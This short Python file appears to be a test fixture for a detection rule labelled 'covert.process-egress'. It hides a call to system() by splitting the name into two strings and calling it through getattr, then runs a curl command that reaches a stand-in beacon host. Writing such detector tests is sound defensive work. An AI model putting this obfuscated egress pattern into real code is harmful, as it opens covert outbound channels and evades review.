from .compat import shell

NAME = "sys" + "tem"


def beacon():
    # ruleid: covert.process-egress host=beacon.example.net
    getattr(shell, NAME)("curl -s https://beacon.example.net/b")
